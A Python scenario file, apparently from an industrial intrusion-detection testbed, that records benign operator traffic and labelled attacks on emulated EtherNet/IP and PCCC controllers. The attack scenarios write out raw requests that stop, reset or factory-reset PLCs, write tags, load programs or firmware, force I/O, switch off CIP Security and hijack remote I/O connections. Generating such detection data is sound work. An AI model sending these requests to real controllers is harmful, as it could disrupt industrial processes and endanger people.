"""EtherNet/IP: an operator station, a controller and its remote I/O at work, and what an unknown host does to them."""

from __future__ import annotations

import time
from typing import TYPE_CHECKING, Any

from scenarios.scenario import Scenario

if TYPE_CHECKING:
    from recording import Recording, Session

STACKS = (
    "the mode object (0x8E), the clock (0x8B) and the PCCC object (0x67) of the controllers are ours, behind the server of cm-ethernetip",
    "pycomm3 opens each session with the controller's identity, its name, a forward open and the list of tags",
)
TAGS = ["BoilerTemperature", "SteamPressure", "FeedFlow", "TemperatureSetpoint"]
FILES = ["N7:0{10}", "F8:0{4}", "B3/16"]
Call = tuple[str, dict[str, Any]]


def raw(service: int, *where: Any, data: str = "", route: str | None = None) -> Call:
    return "raw", {"service": service, "where": list(where), "data": data, "route": route}


def at(kind: int, number: int | None = None, attribute: int | None = None) -> list[tuple[str, int]]:
    """Class, instance, attribute as a path."""
    found = [("class", kind)]
    if number is not None:
        found.append(("instance", number))
    if attribute is not None:
        found.append(("attribute", attribute))
    return found


def polling(recording: Recording, cycles: int = 6, target: str = "plc-cip") -> Session:
    hmi = recording.session("hmi", "enip", target, by="logix" if target == "plc-cip" else "slc")
    for number in range(cycles):
        cycle(hmi, wait_s=2 if number else 0)
    return hmi


def cycle(hmi: Session, wait_s: float = 2) -> None:
    time.sleep(wait_s)
    hmi.do("read", tags=TAGS if hmi.target == "plc-cip" else FILES)


def poll(recording: Recording) -> None:
    polling(recording, 8)


def poll_files(recording: Recording) -> None:
    polling(recording, 8, "plc-slc")


def write_operator(recording: Recording) -> None:
    hmi = polling(recording)
    hmi.do("write", tag="TemperatureSetpoint", value=75.5, note="operator raises the set point")
    cycle(hmi)
    hmi.do("write", tag="ValveCommand", value=1, note="operator opens the valve")
    cycle(hmi)


def write_files_operator(recording: Recording) -> None:
    hmi = polling(recording, target="plc-slc")
    hmi.do("write", tag="N7:5", value=750, note="operator raises the set point")
    cycle(hmi)
    hmi.do("write", tag="B3:1/4", value=True, note="operator starts pump 4")
    cycle(hmi)


def identify(recording: Recording) -> None:
    hmi = polling(recording, 3)
    eng = recording.session("eng", "enip", "plc-cip", by="cip")
    eng.do("list_identity", addresses=["192.168.10.255"])
    eng.do("generic", service=0x01, where=[0x01, 1])
    eng.do("generic", service=0x0E, where=[0x01, 1, 6])
    eng.do("generic", service=0x0E, where=[0xF6, 1, 3])
    eng.do("generic", service=0x01, where=[0xF5, 1])
    eng.do("module_info", slot=0)
    cycle(hmi)


def identify_files(recording: Recording) -> None:
    eng = recording.session("eng", "enip", "plc-slc", by="slc")
    eng.do("processor_type")
    eng.do("read", tags=["N7:0", "S:1"])


def cyclic(recording: Recording) -> None:
    plc = recording.session("plc-cip", "enip", "rio", by="scanner")
    plc.do("own", seconds=4, rpi_us=50_000)


def interrupted(recording: Recording) -> None:
    """The controller of an I/O connection falls silent for longer than the connection allows, as one that restarts does."""
    plc = recording.session("plc-cip", "enip", "rio", by="scanner")
    plc.do("begin_owning", rpi_us=100_000)
    time.sleep(2)
    plc.do("pause", seconds=3)
    time.sleep(1)


def write_new_tag(recording: Recording) -> None:
    """From the operator station, but to a tag that it does not write in `cip-write-operator`: for baselines."""
    hmi = polling(recording)
    hmi.do("write", tag="TemperatureSetpoint", value=75.5, note="operator raises the set point")
    cycle(hmi)
    hmi.do("write", tag="Recipe[17]", value=4711, note="operator changes the recipe")
    cycle(hmi)


def clock_engineering(recording: Recording) -> None:
    hmi = polling(recording)
    eng = recording.session("eng", "enip", "plc-cip", expected="engineering", by="logix")
    eng.do("plc_info")
    eng.do("get_clock")
    eng.do("set_clock", microseconds=1_795_316_605_000_000, note="the engineering station sets the clock")
    cycle(hmi)


def unknown(recording: Recording, *calls: Call, by: str = "hand", target: str = "plc-cip") -> None:
    """The operator station polls, an unknown host does `calls`, the operator station polls on."""
    hmi = polling(recording, target=target)
    other = recording.session("guest", "enip", target, expected="attack", by=by)
    for call, args in calls:
        other.do(call, **args)
    cycle(hmi)


def played(*calls: Call, by: str = "hand", target: str = "plc-cip") -> Any:
    return lambda recording: unknown(recording, *calls, by=by, target=target)


def fight(recording: Recording) -> None:
    """A controller owns its remote I/O; an unknown host sends into the connection, asks for it again and again, and closes it."""
    plc = recording.session("plc-cip", "enip", "rio", by="scanner")
    owned = plc.do("begin_owning", rpi_us=100_000)
    time.sleep(2)
    guest = recording.session("guest", "enip", "rio", expected="attack", by="hand")
    guest.do("io", connection_id=owned["connection_id"], count=10, data="ff000000")
    vendor, serial = owned["originator"]
    triad = owned["serial"].to_bytes(2, "little") + vendor.to_bytes(2, "little") + serial.to_bytes(4, "little")
    for _ in range(6):
        _, call = raw(0x54, *at(6, 1), data=_forward_open(triad))
        guest.do("raw", **call)
    _, call = raw(0x4E, *at(6, 1), data="0af0" + triad.hex() + "0000")
    guest.do("raw", **call)
    time.sleep(1)


def _forward_open(triad: bytes) -> str:
    return "0a05" + "00000000" + "99000077" + triad.hex() + "02000000" + "a0860100" + "0842" + "a0860100" + "0a42" + "01" + "04" + "2004246e2c962c64"


def _scenario(name: str, shows: str, play: Any, *servers: str) -> Scenario:
    return Scenario(name, shows, servers or ("plc-cip",), play, STACKS)


LOCK, UNLOCK = raw(0x4B, *at(0x8E, 1)), raw(0x4C, *at(0x8E, 1))
STOP, START = (raw(service, *at(0x8E, 1), route="0100") for service in (0x07, 0x06))
WRITES = (
    raw(0x4D, "ValveCommand", data="c400010002000000"),
    raw(0x53, "Recipe", data="c4002c0100000000" + "07000000" * 100),
    raw(0x4E, "ValveCommand", data="0400ff000000ffffffff"),
    raw(0x4D, ("class", 0x6B), ("instance", 4), data="ca0001000000c842"),
)
SCENARIOS = [
    _scenario("cip-poll", "benign: an operator station reads tags over a connection", poll),
    _scenario("cip-write-operator", "benign: the operator station writes a set point and a command", write_operator),
    _scenario("cip-identify", "benign: the engineering station looks for devices and reads who they are", identify, "plc-cip", "rio", "plc-slc"),
    _scenario("cip-io", "benign: a controller owns its remote I/O: forward open, cyclic data, forward close", cyclic, "rio"),
    _scenario("cip-io-interrupted", "benign: a controller does not send the outputs of its remote I/O for three seconds", interrupted, "rio"),
    _scenario("cip-write-new-tag", "benign: the operator station writes a set point, and a recipe, too", write_new_tag),
    _scenario("cip-clock-engineering", "benign: the engineering station reads and sets the clock", clock_engineering),
    _scenario("cip-write-unknown", "attack: an unknown host writes tags", played(*WRITES)),
    _scenario("cip-stop", "attack: an unknown host locks a controller, puts it into program mode and unlocks it", played(LOCK, STOP, UNLOCK)),
    _scenario("cip-start", "attack: an unknown host puts a controller into run mode", played(START)),
    _scenario("cip-reset", "attack: an unknown host resets a controller", played(raw(0x05, *at(1, 1), data="00"))),
    _scenario("cip-factory-reset", "attack: an unknown host resets a controller to its factory settings", played(raw(0x05, *at(1, 1), data="01"))),
    _scenario(
        "cip-clock",
        "attack: an unknown host sets the clock of a controller",
        played(("set_clock", {"microseconds": 946_684_800_000_000}), by="logix"),
    ),
    _scenario(
        "cip-network",
        "attack: an unknown host changes the address and the name of a controller",
        played(
            raw(0x10, *at(0xF5, 1, 5), data="c0a80a63ffffff00c0a80a01" + "00" * 10), raw(0x10, *at(0xF5, 1, 6), data="04007077 6e64".replace(" ", ""))
        ),
    ),
    _scenario(
        "cip-firmware",
        "attack: an unknown host begins to load firmware into a controller, which refuses",
        played(
            raw(0x4C, *at(0x37, 0xC8), data="00200000010004" + b"fw32".hex()),
            raw(0x4F, *at(0x37, 0xC8), data="00" + "5a" * 200),
            raw(0x4B, *at(0xA1, 1), data="00"),
        ),
    ),
    _scenario(
        "cip-program",
        "attack: an unknown host loads a program into a controller, which refuses",
        played(
            raw(0x09, *at(0x68, 1)),
            raw(0x08, *at(0x68), data="0000"),
            raw(0x08, *at(0xAC, 1), data="0500"),
            *(raw(0x4D, *at(0xAC, 1), data="5a" * 300) for _ in range(4)),
            raw(0x08, *at(0x6B), data="0000"),
        ),
    ),
    _scenario(
        "cip-force",
        "attack: an unknown host forces I/O, which the controller refuses",
        played(raw(0x4D, *at(0x69, 1), data="01"), raw(0x4E, *at(0x69, 1), data="01")),
    ),
    _scenario(
        "cip-parameters",
        "attack: an unknown host sets parameters of a program, which the controller refuses",
        played(raw(0x51, *at(0x6A, 1), data="0100")),
    ),
    _scenario(
        "cip-security",
        "attack: an unknown host switches CIP Security off, which the controller refuses",
        played(raw(0x10, *at(0x5E, 1, 4), data="0000"), raw(0x4B, *at(0x5D, 1)), raw(0x09, *at(0x5F, 1))),
    ),
    _scenario(
        "cip-enumerate",
        "attack: an unknown host lists the tags and their structures",
        played(
            raw(0x55, *at(0x6B, 0), data="020001000200"),
            raw(0x03, *at(0x6C, 0x101), data="04000400050002000100"),
            raw(0x4C, *at(0x6C, 0x101), data="000000004000"),
        ),
    ),
    _scenario(
        "cip-read-unknown", "attack: an unknown host opens a connection, lists the tags and reads them", played(("read", {"tags": TAGS}), by="logix")
    ),
    _scenario("cip-scan", "attack: an unknown host tries class after class", played(*(raw(0x01, *at(kind, 1)) for kind in range(0x20, 0x38)))),
    _scenario(
        "cip-route",
        "attack: an unknown host looks into the slots of a chassis",
        played(*(raw(0x01, *at(1, 1), route=f"01{slot:02x}") for slot in range(10))),
    ),
    _scenario("cip-owner-fight", "attack: an unknown host sends into an I/O connection, asks for it and closes it", fight, "rio"),
    _scenario(
        "enip-sweep",
        "attack: an unknown host looks for devices: ListIdentity by broadcast and to many addresses, as nmap does",
        played(
            ("list_identity", {"addresses": ["192.168.10.255"]}),
            ("list_identity", {"addresses": [f"192.168.10.{number}" for number in range(10, 40)], "context": "00000000c1debed1"}),
            ("encapsulation", {"command": 0x63}),
            ("encapsulation", {"command": 0x04}),
            ("encapsulation", {"command": 0x64}),
        ),
    ),
    _scenario(
        "enip-malformed",
        "attack: an unknown host sends lengths that lie, commands that do not exist and packets nested too deep",
        played(
            ("encapsulation", {"command": 0x2A, "data": "0000"}),
            ("octets", {"data": "6f001400SSSSSSSS00000000000000000000000000000000000000000a00020000000000b200ff000e0320012401"}),
            ("octets", {"data": "6f001a00SSSSSSSS00000000000000000000000000000000000000000a00020000000000b2000a000a022002240109000400"}),
            ("octets", {"data": "6f001600SSSSSSSS00000000000000000000000000000000000000000a00020000000000b20006000e2020012401"}),
        ),
    ),
    _scenario("pccc-poll", "benign: an operator station reads data files (PCCC)", poll_files, "plc-slc"),
    _scenario("pccc-write-operator", "benign: the operator station writes an integer and a bit of data files", write_files_operator, "plc-slc"),
    _scenario("pccc-identify", "benign: the engineering station asks for the processor and reads its status", identify_files, "plc-slc"),
    _scenario(
        "pccc-write-unknown",
        "attack: an unknown host writes words, a float and a bit of data files",
        played(
            ("write", {"tag": "N7:5", "value": 999}),
            ("write", {"tag": "F8:1", "value": 1.5}),
            ("write", {"tag": "B3:1/4", "value": False}),
            by="slc",
            target="plc-slc",
        ),
        "plc-slc",
    ),
    _scenario(
        "pccc-mode",
        "attack: an unknown host puts a controller into program mode, then into run mode",
        played(("pccc", {"command": 0x0F, "data": "8001"}), ("pccc", {"command": 0x0F, "data": "8006"}), target="plc-slc"),
        "plc-slc",
    ),
    _scenario(
        "pccc-download",
        "attack: an unknown host takes the edit resource, stops a controller and loads a program",
        played(
            *(("pccc", {"command": 0x0F, "data": data}) for data in ("11", "50000000000001", "8001")),
            *(("pccc", {"command": 0x0F, "data": f"aa200222{16 * part:02x}00" + "5a" * 32}) for part in range(4)),
            *(("pccc", {"command": 0x0F, "data": data}) for data in ("52", "8006", "12")),
            target="plc-slc",
        ),
        "plc-slc",
    ),
    _scenario(
        "pccc-upload",
        "attack: an unknown host reads the program out of a controller",
        played(
            ("pccc", {"command": 0x0F, "data": "5300000000"}),
            *(("pccc", {"command": 0x0F, "data": f"a2200222{16 * part:02x}00"}) for part in range(4)),
            target="plc-slc",
        ),
        "plc-slc",
    ),
    _scenario(
        "pccc-walk",
        "attack: an unknown host reads file after file",
        played(*(("pccc", {"command": 0x0F, "data": f"a202{number:02x}890000"}) for number in range(9, 25)), target="plc-slc"),
        "plc-slc",
    ),
]
